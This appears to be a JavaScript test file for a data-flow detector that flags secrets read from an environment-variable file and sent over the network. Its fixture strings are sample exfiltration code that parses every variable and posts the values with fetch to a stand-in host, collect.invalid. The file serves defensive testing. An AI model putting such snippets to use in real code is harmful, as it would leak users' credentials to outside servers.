import assert from 'node:assert/strict';
import { flowsOf } from '../platform/sent.js';

/** What a loader of variables makes of a file, name by name. */
const READ = `const all = {}; let m; while ((m = /^(.+)=(.+)$/gm.exec(s)) != null) all[m[1]] = m[2].trim();`;

describe('lists of what an object holds', () => {
  for (const list of [
    `Object.entries(all).map((e) => e.join('=')).join()`,
    `Object.values(all).join()`,
    `JSON.stringify({ text: Object.entries(all) })`,
  ]) {
    it(`hold what stands under names that are not known: ${list}`, () => {
      const flows = flowsOf(
        `${READ} send(all); function send(all) { fetch('https://collect.invalid', { body: ${list} }); }`,
      );
      assert.deepEqual(flows, ['credential-file>network@collect.invalid']);
    });
  }

  it('say nothing by how many they are', () => {
    assert.deepEqual(flowsOf(`${READ} fetch('https://collect.invalid/' + Object.entries(all).length);`), []);
  });
});
